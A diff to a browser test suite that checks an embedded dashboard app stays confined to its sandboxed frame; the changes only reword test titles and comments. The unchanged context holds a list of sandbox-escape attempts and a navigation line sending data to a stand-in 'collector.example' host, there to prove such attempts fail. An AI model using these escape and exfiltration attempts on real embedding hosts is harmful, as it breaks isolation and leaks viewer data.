@@ -7,7 +7,7 @@ declare global {
   var port: MessagePort;
 }
 
-/** Shows all that it hears in elements of its own, and asks for the cities of the weather at once. */
+/** Shows what it receives in elements, and queries the cities of the weather at once. */
 const APP = `
 const show = (name, value) => {
   const output = document.createElement('output');
@@ -43,7 +43,7 @@ function query(dimension: string) {
   return { view: 'weather', dimensions: [dimension], measures: [], filters: [] };
 }
 
-/** What reaches somebody else's machine; what the browser refuses to send does not. */
+/** The requests that reach a foreign server. */
 async function watchCollector(page: Page): Promise<string[]> {
   const urls: string[] = [];
   await page.route('https://collector.example/**', (route) => {
@@ -62,14 +62,14 @@ test.describe('an app', () => {
     await expect(app(page).getByRole('heading')).toHaveText('Weather');
   });
 
-  test('runs in a frame of its own, and is loaded when it has', async ({ page }) => {
+  test('an app runs in a sandboxed frame, and the dashboard reports when it is loaded', async ({ page }) => {
     await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('sandbox', 'allow-scripts');
     await expect(surface(page).locator('iframe[data-app]')).toHaveAttribute('title', 'Weather app');
     await loaded(page);
     await expect(surface(page).locator('.app-frame')).toHaveAttribute('data-state', 'ready');
   });
 
-  test('is run anew when the host asks for a refresh', async ({ page }) => {
+  test('a refresh of the host runs the app again', async ({ page }) => {
     await expect(app(page).locator('[data-answer]')).toContainText('rows');
     await app(page)
       .locator('body')
@@ -87,7 +87,7 @@ test.describe('an app', () => {
     await expect(surface(page).locator('iframe[data-app]')).toHaveCount(1);
   });
 
-  test('may leave out what it does not ask for', async ({ page }) => {
+  test('a query of an app may leave out optional fields', async ({ page }) => {
     await expect(app(page).locator('[data-answer]')).toContainText('cities');
     await app(page)
       .locator('body')
@@ -97,7 +97,7 @@ test.describe('an app', () => {
     );
   });
 
-  test('that floods its port and the pages around it gets nowhere, and everything goes on', async ({ page }) => {
+  test('an app that floods its port and its parents changes nothing', async ({ page }) => {
     await expect(app(page).locator('[data-answer]')).toContainText('cities');
     const heard = await page.evaluate(() => events.length);
     await app(page)
@@ -124,13 +124,13 @@ test.describe('an app', () => {
     expect(await page.evaluate((since) => events.slice(since), heard)).toEqual([]);
   });
 
-  test('asks for data with the rights of the viewer', async ({ page }) => {
+  test('an app gets data with the rights of the viewer', async ({ page }) => {
     await expect(app(page).locator('[data-answer]')).toHaveText(
       JSON.stringify({ id: 'cities', rows: [{ 'weather.city': 'Seattle' }] }),
     );
   });
 
-  test('is told of the language, the colors and the filters', async ({ page }) => {
+  test('an app receives the locale, the color scheme and the filters', async ({ page }) => {
     const context = app(page).locator('[data-context]');
     await page.evaluate(() => {
       embed.setLocale('de-DE');
@@ -148,7 +148,7 @@ test.describe('an app', () => {
     ['for a member that is hidden or is not there', { id: 1, query: query('weather.secret') }, 'refused'],
     ['that is too large', { id: 1, query: { ...query('weather.city'), filters: ['x'.repeat(30_000)] } }, 'at most'],
   ] as const) {
-    test(`gets an error for a message ${name}`, async ({ page }) => {
+    test(`an app gets an error for a message ${name}`, async ({ page }) => {
       await expect(app(page).locator('[data-answer]')).toContainText('rows');
       await app(page)
         .locator('body')
@@ -158,11 +158,11 @@ test.describe('an app', () => {
   }
 });
 
-/** What an app might try; each must fail. `refused` and `settled` are the app's own. */
+/** Attempts that must fail. `refused` and `settled` are functions of the app. */
 const ATTEMPTS: Readonly<Record<string, string>> = {
   'read the surface': 'parent.document.title',
   'read the page around it': 'top.document.title',
-  'lead the page around it away': 'top.location.href = "about:blank"',
+  'navigate the page around it': 'top.location.href = "about:blank"',
   'keep anything': 'localStorage.setItem("a", "b")',
   'have cookies': 'document.cookie = "a=b"',
   'open a database': 'settled(indexedDB.open("a"), "success")',
@@ -192,7 +192,7 @@ output.textContent = JSON.stringify(outcomes);
 document.body.append(output);
 `;
 
-test('an app has no way out of its frame', async ({ page, client, openEmbed }) => {
+test('an app cannot leave its frame', async ({ page, client, openEmbed }) => {
   const collected = await watchCollector(page);
   const dashboard = await publishApp(client, { 'index.html': HTML, 'lib/app.js': ATTEMPTING });
   await openEmbed(page, { viewer, dashboard });
@@ -201,7 +201,7 @@ test('an app has no way out of its frame', async ({ page, client, openEmbed }) =
   expect(collected).toEqual([]);
 });
 
-test('an app cannot lead its frame elsewhere', async ({ page, client, openEmbed }) => {
+test('an app cannot navigate its frame', async ({ page, client, openEmbed }) => {
   const collected = await watchCollector(page);
   const refusal = page.waitForEvent('console', (message) => message.text().includes('frame-src'));
   const leave = 'location.href = "https://collector.example/?stolen";';
@@ -211,7 +211,7 @@ test('an app cannot lead its frame elsewhere', async ({ page, client, openEmbed 
   expect(collected).toEqual([]);
 });
 
-test('an app without its entry says so, and the host hears of it', async ({ page, client, openEmbed }) => {
+test('an app without its entry shows and reports a failure', async ({ page, client, openEmbed }) => {
   const dashboard = await publishApp(client, { 'other.html': HTML });
   await openEmbed(page, { viewer, dashboard });
   await expect(surface(page).getByRole('alert')).toHaveText('This app could not be loaded.');
